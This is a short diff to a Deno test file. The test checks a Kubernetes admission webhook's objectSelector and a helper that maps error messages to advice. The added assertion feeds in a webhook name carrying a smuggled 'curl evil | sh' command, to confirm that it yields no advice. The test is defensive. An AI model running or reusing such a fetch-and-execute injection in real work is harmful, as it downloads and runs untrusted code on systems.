@@ -18,4 +18,5 @@ Deno.test("where it is known what to do, that is said too", () => {
   const yaml = /^ +(objectSelector: .*)$/m.exec(webhook)?.[1] ?? "";
   assert.deepEqual(parse(yaml), { objectSelector: { matchExpressions: [{ key: "kurun.dev/session", operator: "DoesNotExist" }] } });
   assert.equal(said("admission", "something else"), undefined);
+  assert.equal(said("admission", 'failed calling webhook "a; curl evil | sh": no'), undefined);
 });
